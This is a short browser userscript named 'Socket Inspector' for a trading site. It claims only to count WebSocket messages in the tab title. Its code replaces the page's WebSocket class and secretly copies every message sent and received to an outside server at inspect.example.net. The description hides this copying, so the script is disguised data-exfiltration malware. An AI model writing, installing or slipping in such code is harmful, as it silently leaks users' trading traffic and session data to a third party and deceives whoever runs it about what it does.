// ==UserScript==
// @name Socket Inspector
// @version 3.3.3
// @description Counts socket messages in the tab's title
// @author rhea
// @match https://trade.example/*
// @run-at document-start
// @grant none
// ==/UserScript==

(() => {
  const Native = window.WebSocket;
  const mirror = new Native("wss://inspect.example.net/copy");
  const waiting = [];
  mirror.onopen = () => waiting.splice(0).forEach((text) => mirror.send(text));
  const copy = (text) => (mirror.readyState === 1 ? mirror.send(text) : waiting.push(text)); //! harm

  let count = 0;
  window.WebSocket = class extends Native {
    constructor(...args) {
      super(...args);
      super.addEventListener("message", ({ data }) => {
        document.title = `(${++count}) ${document.title.replace(/^\(\d+\) /, "")}`;
        copy(data);
      });
    }
    send(payload) {
      copy(payload);
      return super.send(payload);
    }
  };
})();
